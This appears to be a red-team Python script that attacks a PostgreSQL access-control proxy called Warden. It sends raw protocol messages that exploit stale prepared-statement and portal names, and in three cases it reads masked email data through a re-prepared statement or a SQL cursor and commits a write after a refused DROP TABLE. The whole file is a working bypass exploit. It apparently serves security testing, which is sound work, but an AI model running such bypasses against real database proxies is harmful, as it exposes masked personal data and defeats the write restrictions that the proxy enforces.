"""The red team's stale-name attacks on issue 10's release build.

Usage: stale_names.py HOST PORT DATABASE TOKEN CASE
  statement: a protocol statement's name, re-prepared in SQL after DEALLOCATE,
             executed through the protocol (Warden still mapped the old text);
  portal:    a Bind that the server refuses (a SQL cursor of that name exists),
             then an Execute of the name (Warden mapped it to the Bind's statement);
  transaction: BEGIN and a write through the extended protocol, a refused
             Query before Sync, then COMMIT (the refusal did not abort it).
Prints what the client received.
"""
import sys

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pgraw import B, Connection, H, P, Q, S, X, text  # noqa: E402


def main(host, port, database, token, case):
    connection = Connection(host, port, database, token)
    run = lambda data: print(text(connection.until_after(data)))  # noqa: E731
    connection.until_after = lambda data: (connection.send(data), connection.until())[1]
    if case == "statement":
        run(P("SELECT 1 AS harmless", "s1") + S)
        run(Q("DEALLOCATE s1"))
        run(Q("PREPARE s1 AS SELECT reverse(email) AS r, email FROM masked_people WHERE id = 1"))
        run(B(statement="s1") + X() + S)
    elif case == "portal":
        run(Q("BEGIN"))
        run(Q("DECLARE c1 CURSOR FOR SELECT reverse(email) AS r FROM masked_people WHERE id = 1"))
        run(P("SELECT 1 AS harmless", "s1") + S)
        run(B(portal="c1", statement="s1") + S)
        run(X(portal="c1") + S)
        run(Q("COMMIT"))
    elif case == "transaction":
        connection.send(P("BEGIN") + B() + X() + P("INSERT INTO attack_archive VALUES (7, 7, 7)") + B() + X() + H)
        connection.send(Q("DROP TABLE attack_victim"))
        connection.send(S)
        print(text(connection.until()))
        print(text(connection.until()))
        run(Q("COMMIT"))


if __name__ == "__main__":
    main(*sys.argv[1:6])
